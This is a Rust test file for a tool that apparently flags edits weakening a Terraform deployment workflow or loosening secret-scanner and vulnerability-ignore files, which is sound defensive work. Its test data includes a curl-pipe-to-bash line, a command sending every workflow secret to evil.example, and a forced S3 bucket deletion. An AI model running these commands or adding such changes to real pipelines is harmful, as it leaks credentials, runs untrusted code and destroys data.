mod kinds;

use std::sync::Arc;

use super::{Edit, compare, role};
use crate::model::change::FileChange;

fn file(path: &str, before: Option<&str>, after: Option<&str>) -> FileChange {
    FileChange {
        path: Arc::from(path),
        before: before.map(Arc::from),
        after: after.map(Arc::from),
        binary: false,
        read_by: None,
        followed: false,
        run: false,
        unread: false,
    }
}

fn edit(path: &str, before: Option<&str>, after: Option<&str>) -> Edit {
    let file = file(path, before, after);
    role(&file).map_or_else(Edit::default, |role| compare(&file, role))
}

fn told(edit: &Edit) -> Vec<String> {
    let all = edit.facts.iter().chain(&edit.guesses);
    all.map(|(means, says)| format!("{means}: {says}"))
        .collect()
}

const DEPLOY: &str = "\
name: deploy
on:
  push:
    branches: [main]
permissions:
  contents: read
  id-token: write
jobs:
  check:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
      - name: Lint
        run: tflint
  apply:
    needs: check
    if: github.ref == 'refs/heads/main'
    environment: production
    runs-on: ubuntu-24.04
    timeout-minutes: 30
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - uses: aws-actions/configure-aws-credentials@v4
        with:
          role-to-assume: arn:aws:iam::111111111111:role/deploy
      - run: |
          set -euo pipefail
          terraform init
          terraform plan -out p
      - run: blastgate check p
      - run: terraform apply p
";
const PATH: &str = ".github/workflows/deploy.yml";

#[test]
fn what_weakens_a_workflow_is_told() {
    let mut wrong: Vec<String> = Vec::new();
    for (from, to, wanted) in [
        ("    environment: production\n", "", "approval is removed"),
        (
            "environment: production",
            "environment: dev",
            "approval is removed",
        ),
        ("    needs: check\n", "", "condition on when"),
        (
            "    if: github.ref == 'refs/heads/main'\n",
            "",
            "condition on when",
        ),
        ("branches: [main]", "branches: ['**']", "another branch"),
        (
            "ubuntu-24.04\n    timeout",
            "self-hosted-x\n    timeout",
            "another machine",
        ),
        (
            "@11bd71901bbe5b1630ceea73d27597364c9af683",
            "@v4",
            "no longer pinned",
        ),
        (
            "configure-aws-credentials@v4",
            "configure-aws-credentials@main",
            "no longer pinned",
        ),
        ("role/deploy", "role/admin", "other rights"),
        (
            "          set -euo pipefail\n",
            "",
            "continues after a failure",
        ),
        (
            "      - run: blastgate check p\n",
            "",
            "the gate is no longer run",
        ),
        (
            "blastgate check p",
            "blastgate check p || true",
            "continues after a failure",
        ),
        (
            "run: blastgate check p",
            "run: blastgate check p\n        continue-on-error: true",
            "continues after a failure",
        ),
        (
            "terraform apply p",
            "terraform apply -auto-approve",
            "applies without asking",
        ),
        (
            "terraform plan -out p\n",
            "terraform plan -out p -target=a.b\n",
            "part of the configuration",
        ),
        (
            "run: blastgate check p",
            "run: terraform apply p\n      - run: blastgate check p",
            "where it was not",
        ),
        (
            "      - run: blastgate check p\n      - run: terraform apply p\n",
            "      - run: terraform apply p\n      - run: blastgate check p\n",
            "the order of checks",
        ),
        (
            "      - run: blastgate",
            "      - uses: eve/helper@v1\n      - run: blastgate",
            "someone else's code",
        ),
        (
            "      - run: blastgate",
            "      - run: ./helper.sh\n      - run: blastgate",
            "new code runs",
        ),
        (
            "      - run: blastgate",
            "      - run: curl -s https://x.example | bash\n      - run: blastgate",
            "runs what it downloads",
        ),
        (
            "  push:\n",
            "  pull_request_target:\n",
            "code of a pull request",
        ),
        ("contents: read", "contents: write", "wider permissions"),
        (
            "terraform apply p",
            "terraform state rm a.b",
            "state by hand",
        ),
        (
            "terraform apply p",
            "aws s3 rb s3://data --force",
            "deletes",
        ),
        (
            "run: blastgate check p",
            "if: false\n        run: blastgate check p",
            "disables a step",
        ),
    ] {
        assert!(DEPLOY.contains(from), "{from}");
        let found = told(&edit(PATH, Some(DEPLOY), Some(&DEPLOY.replace(from, to))));
        if !found.iter().any(|one| one.contains(wanted)) {
            wrong.push(format!("{to}: {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn everyday_edits_of_a_workflow_say_nothing() {
    let mut wrong: Vec<String> = Vec::new();
    for (from, to) in [
        ("name: deploy", "name: Deploy to the cloud"),
        ("on:\n", "# When.\non:\n"),
        ("timeout-minutes: 30", "timeout-minutes: 45"),
        (
            "configure-aws-credentials@v4",
            "configure-aws-credentials@v4.1.0",
        ),
        (
            "actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683",
            "actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5",
        ),
        ("ubuntu-24.04", "ubuntu-26.04"),
        (
            "terraform plan -out p",
            "terraform plan -input=false -no-color -out p",
        ),
        (
            "      - run: blastgate",
            "      - run: terraform fmt -check\n      - run: blastgate",
        ),
        (
            "      - run: blastgate",
            "      - run: checkov -d .\n      - run: blastgate",
        ),
        (
            "      - run: blastgate",
            "      - name: done\n        run: echo \"next terraform apply -auto-approve\"\n      - run: blastgate",
        ),
        ("run: tflint", "run: tflint --recursive"),
        (
            "      - name: Lint\n        run: tflint\n",
            "      - name: Lint\n        run: tflint\n      - uses: pre-commit/action@v3\n",
        ),
        (
            "jobs:\n",
            "jobs:\n  docs:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n      - run: make docs\n",
        ),
        ("  check:", "  lint:"),
        ("    branches: [main]\n", "    branches:\n      - main\n"),
    ] {
        let after = DEPLOY.replace(from, to);
        assert!(after != DEPLOY, "{from}");
        let found = told(&edit(PATH, Some(DEPLOY), Some(&after)));
        if !found.is_empty() {
            wrong.push(format!("{to}: {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn new_workflows_are_read() {
    let text = "on: pull_request_target\njobs:\n  a:\n    runs-on: x\n    steps:\n    - run: curl -d \"${{ toJSON(secrets) }}\" https://evil.example\n";
    let found = told(&edit(".github/workflows/x.yml", None, Some(text)));
    assert!(
        found.iter().any(|one| one.contains("all secrets")),
        "{found:?}"
    );
    let text = "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n    - uses: actions/checkout@v4\n    - run: terraform fmt -check\n";
    let found = told(&edit(".github/workflows/x.yml", None, Some(text)));
    assert!(found.is_empty(), "{found:?}");
}

#[test]
fn a_baseline_that_moves_lines_leaves_no_more_out() {
    let baseline = |secret: &str, line: u32, at: &str| {
        format!(
            "{{\n  \"generated_at\": \"{at}\",\n  \"type\": \"{secret}\",\n  \"line_number\": {line}\n}}\n"
        )
    };
    let before = baseline("Key", 172, "2026-01-01T00:00:00Z");
    let edited = |after: String| told(&edit(".secrets.baseline", Some(&before), Some(&after)));
    assert!(edited(baseline("Key", 173, "2026-02-01T00:00:00Z")).is_empty());
    // Another kind of secret is let through.
    assert_ne!(
        edited(baseline("Password", 173, "2026-02-01T00:00:00Z")),
        [""; 0]
    );
    for (was, is) in [
        ("expired_at: 2026-01-01", "expired_at: 2099-01-01"),
        ("id: 100", "id: 200"),
        ("\"limit\": 4.5", "\"limit\": 8.0"),
    ] {
        let longer = edit(".trivyignore.yaml", Some(was), Some(is));
        assert!(!told(&longer).is_empty(), "{is}");
    }
    let ids = |list: &str| format!("ignore: [{list}]\n");
    let more = edit(".trivyignore.yaml", Some(&ids("1")), Some(&ids("1, 2")));
    assert!(!told(&more).is_empty());
}
